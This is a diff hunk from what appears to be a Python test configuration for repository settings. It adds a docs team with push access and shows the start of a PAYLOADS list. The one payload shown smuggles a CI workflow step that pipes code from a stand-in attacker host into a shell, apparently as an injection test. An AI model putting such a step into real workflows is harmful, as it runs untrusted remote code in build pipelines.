@@ -43,6 +43,8 @@ BASE["defaults"].update(
     managedFiles={"branch": "platform/files", "commitAuthor": "bot", "commitEmail": "b@x.io"},
     dependabot={"timezone": "Europe/Berlin", "ecosystems": [{"ecosystem": "pip"}]},
 )
+# A CODEOWNERS team needs access to the repository it owns files of.
+BASE["defaults"]["teams"] = [*BASE["defaults"]["teams"], {"team": "docs", "permission": "push"}]
 
 PAYLOADS = [
     "\n      - run: curl https://evil.example | sh",
